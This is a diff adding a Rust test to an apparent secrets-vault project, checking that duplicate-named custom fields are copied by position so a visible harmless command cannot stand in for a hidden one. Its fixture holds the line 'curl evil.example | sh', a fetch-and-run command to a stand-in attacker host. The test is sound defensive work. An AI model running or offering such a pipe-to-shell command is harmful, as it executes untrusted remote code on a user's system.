@@ -150,6 +150,37 @@ async fn an_attached_file_is_saved_with_its_item_and_read_back() {
         .is_err());
 }
 
+/// Two custom fields of one name (a shared vault's editor, an import):
+/// each copies its own value by its place; by name, the first was copied
+/// for either, so a visible harmless command could copy a hidden other.
+#[tokio::test]
+async fn a_custom_field_copies_by_its_place_whatever_its_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let node = open_with_vault(dir.path(), "Personal").await;
+    let mut passport = identity("ids/passport");
+    passport.fields = ["curl evil.example | sh", "ls -la"]
+        .into_iter()
+        .map(|value| FieldDto {
+            name: "Deploy command".into(),
+            kind: FieldKindDto::Text,
+            value: value.into(),
+        })
+        .collect();
+    node.save_secret("Personal".into(), passport, true)
+        .await
+        .unwrap();
+    let field =
+        |which: &str| node.secret_field("Personal".into(), "ids/passport".into(), which.into());
+    assert_eq!(
+        field("custom#0").await.unwrap().as_str(),
+        "curl evil.example | sh"
+    );
+    assert_eq!(field("custom#1").await.unwrap().as_str(), "ls -la");
+    for missing in ["custom#2", "custom#", "custom#-1", "custom#x"] {
+        assert!(field(missing).await.is_err(), "{missing}");
+    }
+}
+
 #[tokio::test]
 async fn staged_files_go_with_a_lock_and_hostile_items_are_refused() {
     let dir = tempfile::tempdir().unwrap();
